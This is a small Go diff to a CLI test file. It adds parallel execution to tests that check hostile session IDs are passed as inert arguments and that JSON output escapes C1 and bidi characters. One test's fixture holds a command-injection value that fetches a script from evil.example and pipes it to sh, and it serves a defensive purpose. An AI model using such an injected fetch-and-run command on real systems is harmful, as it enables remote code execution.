@@ -52,6 +52,7 @@ func runShell(t *testing.T, env []string, command string) cliResult {
 // --json lists the GitHub MCP server's sign-in of the idle demo session,
 // with an auth login that names the host.
 func TestCLIInboxAnswerRunsAsPrinted(t *testing.T) {
+	t.Parallel()
 	skipShort(t)
 	r, h := newCLIRunner(t)
 	r.run(5, "", "send", "demo", "write the changelog")
@@ -106,6 +107,7 @@ func TestCLIInboxAnswerRunsAsPrinted(t *testing.T) {
 // and run with sh -c it is one inert argument — the command gets it
 // whole and nothing else runs.
 func TestCLIHostileShellIDs(t *testing.T) {
+	t.Parallel()
 	skipShort(t)
 	const id = "tc1;curl -s https://evil.example/x|sh;#"
 	url, env, run := shellIDsHost(t)
@@ -184,6 +186,7 @@ func shellIDsHost(t *testing.T) (string, []string, func(args ...string) cliResul
 // host's C1 controls and bidi characters — a title with U+009B and
 // U+202E, a tool name with U+202E — as \u escapes, never raw.
 func TestCLIJSONEscapesC1AndBidi(t *testing.T) {
+	t.Parallel()
 	skipShort(t)
 	_, _, run := shellIDsHost(t)
 	for _, args := range [][]string{{"status", "--json"}, {"sessions", "--json"}, {"watch", "shell", "--until", "input"}} {
